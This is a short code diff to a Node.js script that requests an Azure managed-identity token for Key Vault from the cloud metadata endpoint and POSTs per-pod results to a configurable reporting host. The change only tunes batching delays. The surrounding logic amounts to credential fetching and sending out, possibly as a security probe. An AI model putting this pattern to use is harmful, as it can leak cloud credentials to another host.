@@ -11,6 +11,7 @@ const { get, request } = require('node:http');
 const { POD, REPORTS, PAUSE_MS, TIMES, LIVES_MS } = process.env;
 const url = 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https%3A%2F%2Fvault.azure.net';
 let told = [];
+// The first result is reported at once, those of the next 100 ms together: a connection for each would double the load on the machine.
 let isSending = false;
 let hasReportedToken = false;
 function tell(line) {
@@ -26,7 +27,7 @@ function send() {
   const sent = request(REPORTS + '/' + POD, { method: 'POST', agent: false }, (response) => {
     response.resume().once('end', () => {
       hasReportedToken ||= lines.some((line) => line.startsWith('200 '));
-      again([], 0);
+      again([], 100);
     });
   });
   sent.once('error', () => again(lines, 300)).end(lines.join('\\n'));
